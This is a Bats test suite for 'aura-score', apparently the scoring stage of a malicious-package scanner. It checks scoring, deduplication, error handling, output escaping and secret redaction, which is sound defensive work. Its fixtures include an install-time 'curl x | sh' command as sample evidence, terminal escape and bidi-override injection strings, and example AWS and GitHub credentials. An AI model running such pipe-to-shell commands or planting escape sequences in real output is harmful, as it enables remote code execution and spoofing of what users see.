#!/usr/bin/env bats
# 50-score.bats: aura-score on hand-written record streams — totals, dedup, streaming, gates, escaping.
load helpers/common
bats_require_minimum_version 1.5.0

GOLDEN="$BATS_TEST_DIRNAME/golden/score"

# Record builders.  Ids are short strings: score treats them as opaque keys.
art() {	# id name
	jq -nc --arg id "$1" --arg n "$2" \
		'{type:"artifact",v:1,id:$id,path:("/pkgs/"+$n+"-1.0.tar.gz"),kind:"archive",
		  format:"tar.gz",sha256:$id,size:100,name:$n,version:"1.0",ecosystem:"local"}'
}
file_rec() {	# artifact index path
	jq -nc --arg a "$1" --argjson i "$2" --arg p "$3" \
		'{type:"file",v:1,artifact:$a,id:($a+":"+($i|tostring)),index:$i,path:$p,kind:"python"}'
}
# hit artifact detection score severity path line message [extra-json-object]
hit() {
	jq -nc --arg a "$1" --arg d "$2" --argjson s "$3" --arg sev "$4" --arg p "$5" \
		--argjson l "$6" --arg m "$7" --argjson x "${8:-{\}}" \
		'{type:"hit",v:1,artifact:$a,detection:$d,score:$s,severity:$sev,path:$p,line:$l,
		  col:0,message:$m,tags:[],stage:"aura-analyze"} + $x'
}
end_rec() {	# artifact files
	jq -nc --arg a "$1" --argjson f "$2" \
		'{type:"artifact_end",v:1,artifact:$a,files:$f,hits:0,errors:0,complete:true}'
}

# Two packages: "evil" (an install-time shell command, an eval seen twice, a URL) and "plain".
two_packages() {
	art A evil
	file_rec A 0 setup.py
	hit A URL 10 low setup.py 2 "URL http://x.example" '{"evidence":"http://x.example"}'
	hit A ShellCommand 100 high setup.py 3 "os.system() at install time" \
		'{"context":"install","tags":["process","install-time"],"evidence":"os.system(\"curl x | sh\")"}'
	file_rec A 1 evil/__init__.py
	hit A Eval 40 medium evil/__init__.py 5 "eval()" '{"name":"builtins.eval"}'
	hit A Eval 40 medium evil/__init__.py 9 "eval()" '{"name":"builtins.eval"}'
	end_rec A 2
	art B plain
	file_rec B 0 plain/__init__.py
	end_rec B 1
}

@test "score: one verdict per artifact, with total, risk and hits most severe first" {
	run -0 --separate-stderr bash -c "$(declare -f art file_rec hit end_rec two_packages); two_packages | aura-score --format json"
	assert_valid_records
	assert_equal "$(printf '%s\n' "$output" | jq -s 'map(.type) == ["verdict","verdict"]')" true
	local a b
	a=$(printf '%s\n' "$output" | sed -n 1p)
	b=$(printf '%s\n' "$output" | sed -n 2p)
	assert_equal "$(jq -c '[.artifact.id,.artifact.name,.artifact.version,.score,.risk,.complete,.files]' <<<"$a")" '["A","evil","1.0",150,"high",true,2]'
	assert_equal "$(jq -c '[.hits[] | [.severity,.detection,.line]]' <<<"$a")" '[["high","ShellCommand",3],["medium","Eval",5],["low","URL",2]]'
	assert_equal "$(jq -r .reason <<<"$a")" "os.system() at install time in setup.py; eval() in evil/__init__.py; URL http://x.example in setup.py"
	assert_equal "$(jq -c '[.artifact.id,.score,.risk,.reason,.hits,.complete]' <<<"$b")" '["B",0,"info","no findings",[],true]'
}

@test "score: the same finding at several places counts once, with a count" {
	run -0 --separate-stderr bash -c "$(declare -f art file_rec hit end_rec two_packages); two_packages | aura-score --format json | head -1"
	assert_equal "$(jq -c '[.hits[] | select(.detection == "Eval") | .count]' <<<"$output")" '[2]'
	assert_equal "$(jq -c '[.hits[] | select(.detection != "Eval") | .count]' <<<"$output")" '[1,1]'
}

@test "score: dedup key is detection, path and name (else message)" {
	stream() {
		art A p
		hit A Eval 10 low a.py 1 "eval() one" '{"name":"builtins.eval"}'
		hit A Eval 10 low a.py 2 "eval() two" '{"name":"builtins.eval"}'	# same name: same finding
		hit A Eval 10 low b.py 1 "eval() one" '{"name":"builtins.eval"}'	# other path
		hit A Str 5 info a.py 1 "msg x"
		hit A Str 5 info a.py 2 "msg y"						# other message
		hit A Str 5 info a.py 3 "msg x"
		end_rec A 0
	}
	run -0 --separate-stderr bash -c "$(declare -f art hit end_rec stream); stream | aura-score --format json"
	assert_equal "$(jq -c '[.hits[] | [.detection,.path,.line,.count]]' <<<"$output")" '[["Eval","a.py",1,2],["Eval","b.py",1,1],["Str","a.py",1,2],["Str","a.py",2,1]]'
	assert_equal "$(jq .score <<<"$output")" 30
}

@test "score: weak hits count by file (the worst in full, the others up to 30); install-time hits in full" {
	stream() {
		art A p
		for i in 1 2 3 4 5 6; do hit A Entropy 10 low "f$i.py" 1 "blob"; done
		for i in 1 2 3 4; do hit A Setup 10 low setup.py "$i" "m$i" '{"context":"install"}'; done
		end_rec A 0
	}
	run -0 --separate-stderr bash -c "$(declare -f art hit end_rec stream); stream | aura-score --format json"
	assert_equal "$(jq .score <<<"$output")" 80	# f1.py 10 + min(50, 30) + 40
	assert_equal "$(jq .risk <<<"$output")" '"medium"'
}

@test "score: a library's API use spread over many files stays below high; one file doing it all does not" {
	stream() {	# A: 10 files with a 40-point hit each; B: the same four detections in one file
		art A lib
		for i in 1 2 3 4 5 6 7 8 9 10; do hit A "Det$i" 40 high "m$i.py" 1 "x" '{"context":"import"}'; done
		end_rec A 0
		art B one
		for i in 1 2 3; do hit B "Det$i" 40 high "evil.py" "$i" "x" '{"context":"import"}'; done
		end_rec B 0
	}
	run -0 --separate-stderr bash -c "$(declare -f art hit end_rec stream); stream | aura-score --format json"
	assert_equal "$(jq -sc '[.[] | [.score, .risk]]' <<<"$output")" '[[70,"medium"],[120,"high"]]'
}

@test "score: signatures, metadata and flows add per detection; a flow in an uncalled function only with a hard-coded host" {
	stream() {
		art A p
		for i in 1 2 3; do hit A "W$i" 40 low "f$i.py" 1 "w" '{"context":"import"}'; done	# weak: 40 + 30
		hit A Webhook 30 high a.py 1 "hook" '{"context":"function","tags":["network","indicator"]}'
		hit A Squat 20 medium null 0 "squat" '{"tags":["metadata"]}'
		hit A Exfil 30 critical b.py 1 "to a caller's host" '{"context":"function","tags":["flow"]}'
		hit A Exfil 100 critical c.py 1 "to x.example" '{"context":"function","tags":["flow","fixed-host"]}'
		end_rec A 0
	}
	run -0 --separate-stderr bash -c "$(declare -f art hit end_rec stream); stream | aura-score --format json"
	# weak files: f1 40, then f2 40 + f3 40 + b.py 30 capped at 30; strong: 30 + 20 + 100
	assert_equal "$(jq .score <<<"$output")" 220
}

@test "score: risk levels at the documented thresholds" {
	stream() {
		local s
		for s in 0 19 20 49 50 99 100 199 200 1000; do
			art "a$s" "p$s"; hit "a$s" X "$s" info x.py 1 m; end_rec "a$s" 0
		done
	}
	run -0 --separate-stderr bash -c "$(declare -f art hit end_rec stream); stream | aura-score --format json"
	assert_equal "$(printf '%s\n' "$output" | jq -sc 'map([.score,.risk])')" '[[0,"info"],[19,"info"],[20,"low"],[49,"low"],[50,"medium"],[99,"medium"],[100,"high"],[199,"high"],[200,"critical"],[1000,"critical"]]'
}

@test "score: a hit field out of range is a malformed record: an error, the artifact incomplete, never clamped" {
	stream() {
		art A p
		hit A Huge 1e308 critical a.py 1 m1
		hit A Negative -50 info a.py 2 m2
		hit A Word '"lots"' info a.py 3 m3
		hit A Real 40.5 low a.py 4 m4
		hit A Over 1001 low a.py 5 m5
		hit A Sev 10 apocalyptic a.py 6 m6
		hit A Col 10 low a.py 7 m7 | sed 's/"col":0/"col":9223372036854775807/'
		hit A Line 10 low a.py -1 m8
		hit A Ctx 10 low a.py 9 m9 '{"context":"always"}'
		hit A Tags 10 low a.py 10 m10 '{"tags":"install"}'
		hit A Kept 30 low a.py 11 kept
		jq -nc '{type:"hit",v:1,artifact:"A",score:10,severity:"low"}'
		jq -nc '{type:"artifact_end",v:1,artifact:"A",files:-1,complete:true}'
	}
	run -2 --separate-stderr bash -c "$(declare -f art hit end_rec stream); stream | aura-score --format json"
	assert_equal "$(jq -c '[.score, .risk, .complete, .incomplete_reasons, [.hits[].detection]]' <<<"$output")" \
		'[30,"low",false,["12 errors"],["Kept"]]'
	assert_equal "$(jq -r '.errors[] | [.stage, .message] | join(" ")' <<<"$output")" \
"aura-score <stdin>:2: malformed hit record: hit field 'score' holds 1e+308: it must be an integer in 0..1000
aura-score <stdin>:3: malformed hit record: hit field 'score' holds -50: it must be an integer in 0..1000
aura-score <stdin>:4: malformed hit record: hit field 'score' holds \"lots\" (4 bytes): it must be an integer in 0..1000
aura-score <stdin>:5: malformed hit record: hit field 'score' holds 40.5: it must be an integer in 0..1000
aura-score <stdin>:6: malformed hit record: hit field 'score' holds 1001: it must be an integer in 0..1000
aura-score <stdin>:7: malformed hit record: hit field 'severity' holds \"apocalyptic\" (11 bytes): it must be one of info, low, medium, high, critical
aura-score <stdin>:8: malformed hit record: hit field 'col' holds 9223372036854775807: it must be an integer in 0..2147483647
aura-score <stdin>:9: malformed hit record: hit field 'line' holds -1: it must be an integer in 0..2147483647
aura-score <stdin>:10: malformed hit record: hit field 'context' holds \"always\" (6 bytes): it must be one of install, import, function, command
aura-score <stdin>:11: malformed hit record: hit field 'tags' holds \"install\" (7 bytes): it must be at most 64 strings of 1..128 bytes
aura-score <stdin>:13: malformed hit record: hit field 'detection' is missing: it must be a string of 1..256 bytes
aura-score <stdin>:14: malformed artifact_end record: artifact_end field 'files' holds -1: it must be an integer >= 0"
	[[ $stderr == *"aura-score: <stdin>:2: malformed hit record: hit field 'score' holds 1e+308"* ]] || fail "$stderr"
	# --allow-errors lets the run pass; the verdict still says what was wrong
	run -0 bash -c "$(declare -f art hit end_rec stream); stream | aura-score --allow-errors"
	assert_output --partial "INCOMPLETE"
	assert_output --partial "error: aura-score: <stdin>:7: malformed hit record: hit field 'severity'"
}

@test "score: a verdict is written as soon as its artifact_end arrives, before input ends" {
	local first
	first=$( { art A one; end_rec A 0; } )
	coproc SCORE { exec 3>&-; exec aura-score --unbuffered --format json; }
	# Own copies of the pipes: bash forgets the coproc's once it exits.
	local pid=$SCORE_PID to from
	exec {to}>&"${SCORE[1]}" {from}<&"${SCORE[0]}"
	eval "exec ${SCORE[1]}>&- ${SCORE[0]}<&-"
	printf '%s\n' "$first" >&"$to"
	# The input is still open: a line read now was emitted while streaming.
	local line=""
	read -t 10 -r line <&"$from" || true
	{ art B two; end_rec B 0; } >&"$to"
	exec {to}>&-
	local rest
	rest=$(cat <&"$from")
	exec {from}<&-
	wait "$pid"
	assert_equal "$(jq -r .artifact.id <<<"$line")" A
	assert_equal "$(jq -r .artifact.id <<<"$rest")" B
}

@test "score: records of interleaved artifacts are kept apart" {
	stream() {
		art A one; art B two
		hit B X 30 low b.py 1 mb
		hit A X 60 medium a.py 1 ma
		end_rec B 0; end_rec A 0
	}
	run -0 --separate-stderr bash -c "$(declare -f art hit end_rec stream); stream | aura-score --format json"
	assert_equal "$(printf '%s\n' "$output" | jq -sc 'map([.artifact.id,.score,(.hits|length)])')" '[["B",30,1],["A",60,1]]'
}

@test "score: an interrupted stream gives complete:false and exit 2; --allow-errors gives 0" {
	stream() { art A one; hit A X 10 low a.py 1 m; art B two; end_rec B 0; }
	run -2 --separate-stderr bash -c "$(declare -f art hit end_rec stream); stream | aura-score --format json"
	assert_equal "$(printf '%s\n' "$output" | jq -sc 'map([.artifact.id,.complete])')" '[["B",true],["A",false]]'
	assert_equal "$(printf '%s\n' "$output" | jq -r 'select(.artifact.id == "A") | .reason')" "m in a.py; incomplete: interrupted: no artifact_end"
	run -0 --separate-stderr bash -c "$(declare -f art hit end_rec stream); stream | aura-score --format json --allow-errors"
	run -2 bash -c "$(declare -f art hit end_rec stream); stream | aura-score"
	assert_output --partial "2 packages scanned: 2 info; 1 incomplete"
	assert_output --partial "INCOMPLETE"
}

@test "score: an error record for an artifact makes it incomplete and is listed" {
	stream() {
		art A one
		jq -nc '{type:"error",v:1,stage:"aura-parse",artifact:"A",path:"x.py",message:"syntax error"}'
		end_rec A 0
	}
	run -2 --separate-stderr bash -c "$(declare -f art end_rec stream); stream | aura-score --format json"
	assert_equal "$(jq -c '[.complete,.errors,.incomplete_reasons]' <<<"$output")" '[false,[{"stage":"aura-parse","path":"x.py","message":"syntax error"}],["1 error"]]'
	run -2 bash -c "$(declare -f art end_rec stream); stream | aura-score"
	assert_output --partial "error: aura-parse: x.py: syntax error"
}

@test "score: artifact_end counting other files than arrived, or complete:false, is incomplete" {
	stream() {
		art A one; file_rec A 0 a.py; end_rec A 2
		art B two; jq -nc '{type:"artifact_end",v:1,artifact:"B",files:0,complete:false}'
	}
	run -2 --separate-stderr bash -c "$(declare -f art file_rec end_rec stream); stream | aura-score --format json"
	assert_equal "$(printf '%s\n' "$output" | jq -sc 'map([.complete,.incomplete_reasons])')" '[[false,["artifact_end counts 2 files but 1 arrived"]],[false,["unpack could not read the whole artifact"]]]'
}

@test "score: error records without an artifact are stream errors (exit 2, counted)" {
	stream() {
		art A one; end_rec A 0
		jq -nc '{type:"error",v:1,stage:"aura-unpack",message:"cannot open x"}'
	}
	run -2 --separate-stderr bash -c "$(declare -f art end_rec stream); stream | aura-score"
	assert_output --partial "1 package scanned: 1 info; 0 incomplete; 1 stream error"
	assert_equal "$stderr" ""	# its producer already said it
	run -0 bash -c "$(declare -f art end_rec stream); stream | aura-score --allow-errors"
}

@test "score: a garbage line is reported on stderr, exit 2 unless --allow-errors" {
	stream() { art A one; printf 'this is {not json\n'; end_rec A 0; }
	run -2 --separate-stderr bash -c "$(declare -f art end_rec stream); stream | aura-score --format json"
	# the line could have been one of A's records: A is incomplete
	assert_equal "$(jq -c '[.artifact.id,.complete,.incomplete_reasons]' <<<"$output")" \
		'["A",false,["a bad input line while it was open (<stdin>:2)"]]'
	assert_valid_records	# stdout holds verdicts only
	[[ "$stderr" == "aura-score: <stdin>:2: "* ]] || fail "stderr: $stderr"
	run -0 --separate-stderr bash -c "$(declare -f art end_rec stream); stream | aura-score --format json --allow-errors"
	# a truncated last line is an error too
	run -2 --separate-stderr bash -c "$(declare -f art end_rec stream); { art A one; end_rec A 0; printf '{\"type\":\"hit\"'; } | aura-score --format json"
}

@test "score: --fail-score and --fail-level give exit 1; exit 2 takes precedence" {
	local s="$(declare -f art file_rec hit end_rec two_packages)"
	run -1 bash -c "$s; two_packages | aura-score --fail-score 150"
	run -0 bash -c "$s; two_packages | aura-score --fail-score 151"
	run -1 bash -c "$s; two_packages | aura-score --fail-level high"
	run -0 bash -c "$s; two_packages | aura-score --fail-level critical"
	run -1 bash -c "$s; two_packages | aura-score --fail-level info"
	# an incomplete artifact on top of a gate: 2
	run -2 bash -c "$s; { two_packages; art C three; } | aura-score --fail-score 1"
	run -1 bash -c "$s; { two_packages; art C three; } | aura-score --fail-score 1 --allow-errors"
}

@test "score: --min-level filters the hits shown, not the score" {
	local s="$(declare -f art file_rec hit end_rec two_packages)"
	run -0 --separate-stderr bash -c "$s; two_packages | aura-score --format json --min-level medium | head -1"
	assert_equal "$(jq -c '[.score,.risk,[.hits[].severity],.hits_hidden]' <<<"$output")" '[150,"high",["high","medium"],1]'
	run -0 bash -c "$s; two_packages | aura-score --min-level high"
	assert_output --partial "[high] ShellCommand"
	refute_output --partial "[medium]"
	assert_output --partial "(2 lower-severity hits not shown)"
	assert_output --partial "score 150"
}

@test "score: text output matches the golden file" {
	run -0 --separate-stderr bash -c "$(declare -f art file_rec hit end_rec two_packages); two_packages | aura-score"
	assert_golden score/two-packages.txt
}

@test "score: json output matches the golden file" {
	run -0 --separate-stderr bash -c "$(declare -f art file_rec hit end_rec two_packages); two_packages | aura-score --format json"
	assert_golden score/two-packages.ndjson
}

@test "score: text output escapes ESC sequences, C1 controls and bidi overrides from a package" {
	stream() {
		art A one
		# \u001b[2J clears the screen; \u202e reverses what follows; \u009b is a C1 CSI.
		hit A Evil 10 low x.py 1 m '{"path":"evil\u2066.py",
			"message":"msg \u001b[2Jgone \u202eesrever\u202c",
			"evidence":"x = 1\u0007\u009b31m\nimport os"}'
		end_rec A 0
	}
	run -0 bash -c "$(declare -f art hit end_rec stream); stream | aura-score"
	assert_output --partial 'msg \x1b[2Jgone \u202eesrever\u202c'
	assert_output --partial 'evil\u2066.py:1:0'
	assert_output --partial '> x = 1\x07\u009b31m\nimport os'
	refute_output --partial $'\e'
	refute_output --partial "$(printf '\xe2\x80\xae')"	# U+202E
	refute_output --partial "$(printf '\xe2\x81\xa6')"	# U+2066
	refute_output --partial "$(printf '\xc2\x9b')"		# U+009B
	# JSON keeps the package's exact text: consumers escape when they display it.
	run -0 --separate-stderr bash -c "$(declare -f art hit end_rec stream); stream | aura-score --format json"
	jq -e '.hits[0].message == "msg \u001b[2Jgone \u202eesrever\u202c"' <<<"$output"
}

@test "score: colours only on a terminal, and never with NO_COLOR" {
	local s="$(declare -f art file_rec hit end_rec two_packages)"
	two_packages_file="$BATS_TEST_TMPDIR/in.ndjson"
	bash -c "$s; two_packages" >"$two_packages_file"
	# not a terminal: no colour
	run -0 bash -c "aura-score < '$two_packages_file'"
	refute_output --partial $'\e'
	# a terminal (script(1) gives one): colour
	run -0 env -u NO_COLOR script -qec "aura-score < '$two_packages_file'" /dev/null
	assert_output --partial $'\e[31m'
	run -0 env NO_COLOR=1 script -qec "aura-score < '$two_packages_file'" /dev/null
	assert_output --partial "risk HIGH"
	refute_output --partial $'\e'
}

@test "score: other record types are ignored, nothing is passed through" {
	stream() {
		jq -nc '{type:"target",v:1,target:"x"}'
		art A one
		jq -nc '{type:"ast",v:1,artifact:"A",file:"A:0",path:"a.py",tree:{_type:"Module",body:[]}}'
		jq -nc '{type:"future_thing",v:1,artifact:"A"}'
		end_rec A 0
	}
	run -0 --separate-stderr bash -c "$(declare -f art end_rec stream); stream | aura-score --format json"
	assert_equal "$(printf '%s\n' "$output" | jq -sc 'map(.type)')" '["verdict"]'
}

@test "score: records that name no artifact are stream errors" {
	stream() { art A one; jq -nc '{type:"hit",v:1,detection:"X",score:10,severity:"low"}'; end_rec A 0; }
	run -2 --separate-stderr bash -c "$(declare -f art end_rec stream); stream | aura-score --format json"
	[[ "$stderr" == *"hit record without an artifact id"* ]] || fail "stderr: $stderr"
	assert_equal "$(jq .score <<<"$output")" 0
}

@test "score: no input at all is zero packages and exit 0" {
	run -0 aura-score </dev/null
	assert_output "0 packages scanned; 0 incomplete"
	run -0 --separate-stderr aura-score --format json </dev/null
	assert_output ""
}

@test "score: usage errors exit 2" {
	run -2 aura-score --format xml </dev/null
	run -2 aura-score --fail-level severe </dev/null
	run -2 aura-score --min-level 3 </dev/null
	run -2 aura-score --fail-score -1 </dev/null
	run -2 aura-score extra-argument </dev/null
	run -0 aura-score --help
	assert_output --partial "--fail-level"
}

@test "score: sandboxed — no files, no network once sealed" {
	run -3 aura-score --sandbox-selftest open:/etc/passwd </dev/null
	run -159 aura-score --sandbox-selftest socket </dev/null
	run -0 aura-score --print-sandbox
	assert_output --partial "score"
}

@test "score: a hit quotes its source line from the file record before it" {
	stream() {
		art A p
		jq -nc '{type:"file",v:1,artifact:"A",id:"A:0",index:0,path:"setup.py",kind:"python",
			content:"import os\r\n  os.system(\"id\")  # run\nx = 1\n",content_encoding:"utf-8"}'
		hit A ShellCommand 50 high setup.py 2 "os.system()" '{"file":"A:0","evidence":"os.system(\"id\")"}'
		hit A Other 5 low setup.py 9 "past the end" '{"file":"A:0"}'
		end_rec A 1
	}
	run -0 --separate-stderr bash -c "$(declare -f art hit end_rec stream); stream | aura-score --format json"
	assert_jq "$output" '.hits[0].source == "  os.system(\"id\")  # run" and (.hits[1] | has("source") | not)'
	run -0 bash -c "$(declare -f art hit end_rec stream); stream | aura-score"
	assert_output --partial '      2 |   os.system("id")  # run'
	assert_output --partial '      > os.system("id")'
}

@test "score: a decoded payload is printed under its hit" {
	stream() {
		art A p
		hit A CodeExecution 50 high loader.py 5 "exec() of a decoded string" \
			'{"evidence":"exec(b64decode(\"cHJpbnQoMSk=\"))","payload":"print(1)\u001b[2J"}'
		end_rec A 0
	}
	run -0 bash -c "$(declare -f art hit end_rec stream); stream | aura-score"
	assert_output --partial '      decoded: print(1)\x1b[2J'
}

@test "score: secrets are redacted in every format (a few characters and a hash)" {
	local secret=AKIAIOSFODNN7EXAMPLE hash
	hash=$(printf '%s' "$secret" | sha256sum | cut -c1-12)
	stream() {
		art A p
		jq -nc '{type:"file",v:1,artifact:"A",id:"A:0",index:0,path:"conf.py",kind:"python",
			content:"KEY = \"AKIAIOSFODNN7EXAMPLE\"\n",content_encoding:"utf-8"}'
		hit A AwsKey 40 high conf.py 1 "AWS key AKIAIOSFODNN7EXAMPLE" \
			'{"file":"A:0","secret":"AKIAIOSFODNN7EXAMPLE","evidence":"\"AKIAIOSFODNN7EXAMPLE\""}'
		hit A Token 40 high conf.py 1 "a token" '{"tags":["secret"],"evidence":"ghp_0123456789abcdefghij"}'
		end_rec A 1
	}
	local s="$(declare -f art hit end_rec stream)" fmt
	for fmt in text json sarif; do
		run -0 bash -c "$s; stream | aura-score --format $fmt"
		refute_output --partial "$secret"
		refute_output --partial "ghp_0123456789abcdefghij"
		assert_output --partial "AKIA…[sha256:$hash]"
	done
	run -0 --separate-stderr bash -c "$s; stream | aura-score --format json"
	assert_jq "$output" '.hits | all(.redacted) and (map(.evidence) | index("ghp_…[sha256:'"$(printf ghp_0123456789abcdefghij | sha256sum | cut -c1-12)"']"))'
	local db="$BATS_TEST_TMPDIR/r.db"
	run -0 bash -c "$s; stream | aura-score --db '$db' >/dev/null"
	run -0 python3 -c 'import sqlite3, sys; c = sqlite3.connect(sys.argv[1]); print(c.execute("select group_concat(verdict) from artifacts").fetchone()[0], c.execute("select group_concat(hit || message || evidence) from hits").fetchone()[0])' "$db"
	refute_output --partial "$secret"
	assert_output --partial "AKIA…[sha256:$hash]"
}

@test "score: --merge combines verdict streams — one per artifact, complete over incomplete" {
	local s="$(declare -f art file_rec hit end_rec two_packages)"
	local run1="$BATS_TEST_TMPDIR/run1" run2="$BATS_TEST_TMPDIR/run2"
	# run 1: A complete, C cut short; run 2: B, and C again, complete this time
	bash -c "$s; { two_packages; art C three; hit C X 10 low c.py 1 m; } | aura-score --format json --allow-errors" > "$run1"
	bash -c "$s; { art C three; hit C X 10 low c.py 1 m; end_rec C 0; art B plain; end_rec B 0; } | aura-score --format json" > "$run2"
	run -0 --separate-stderr bash -c "cat '$run1' '$run2' | aura-score --merge --format json"
	assert_equal "$(printf '%s\n' "$output" | jq -sc 'map([.artifact.id, .complete])')" '[["A",true],["B",true],["C",true]]'
	run -1 bash -c "cat '$run1' '$run2' | aura-score --merge --fail-level high"
	assert_output --partial "3 packages scanned: 1 high, 2 info; 0 incomplete"
	run -0 --separate-stderr bash -c "cat '$run1' '$run2' | aura-score --merge --format json --min-level high | head -1"
	assert_jq "$output" '[.hits[].severity] == ["high"] and .hits_hidden == 2'
	# only the cut-short run: incomplete, exit 2
	run -2 bash -c "aura-score --merge < '$run1'"
	assert_output --partial "1 incomplete"
	# through the driver, and into SARIF
	run -0 --separate-stderr aura merge --format sarif "$run1" "$run2"
	assert_jq "$output" '.runs[0].results | length == 4'
}

@test "score: --versions names the libraries it runs with" {
	run -0 aura-score --versions
	assert_line --partial "sqlite3 3."
	assert_line --partial "jansson 2."
	assert_line --partial "libseccomp 2."
}

@test "score: 50,000 distinct findings are scored in linear time (CPU-time limit, not wall clock)" {
	python3 - > "$BATS_TEST_TMPDIR/in" <<'PY'
import json
print(json.dumps({"type": "artifact", "v": 1, "id": "A"}))
for i in range(50000):
    print(json.dumps({"type": "hit", "v": 1, "artifact": "A", "detection": f"D{i}", "score": 1,
                      "severity": "low", "path": f"p{i}.py", "line": 1, "col": 0, "message": "m"}))
print(json.dumps({"type": "artifact_end", "v": 1, "artifact": "A", "files": 0, "complete": True}))
PY
	# A linear search per group took about 50 CPU seconds here; the hash takes about 1.
	run -0 --separate-stderr bash -c "ulimit -t 15; aura-score --format json < '$BATS_TEST_TMPDIR/in'"
	# the worst file in full (1), the other 49,999 files together at most SPREAD_CAP (30)
	assert_equal "$(jq -c '[.score, (.hits | length)]' <<<"$output")" '[31,50000]'
}
